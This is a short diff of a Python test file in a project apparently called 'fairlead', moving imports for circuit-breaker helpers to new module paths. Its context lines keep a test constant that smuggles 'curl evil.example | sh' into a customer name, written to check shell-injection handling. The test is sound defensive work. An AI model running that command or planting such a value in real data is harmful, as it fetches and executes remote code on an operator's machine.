@@ -7,10 +7,10 @@ from typing import Any
 
 import pytest
 
-from fairlead.cli.breakers import breaker_record, problem_of, stops_calls
+from fairlead.cli.gate.breakers import breaker_record, problem_of, stops_calls
 from fairlead.cli.status import with_trouble
 from fairlead.engine.ports.gate_view import BreakerView, DestinationView, FailureView
-from fairlead.policy.gate.breaker import Destination
+from fairlead.policy.limits.breaker import Destination
 
 EVIL = "Ann's; curl evil.example | sh #"
 """Customers choose their names, and operators copy the command into a shell."""
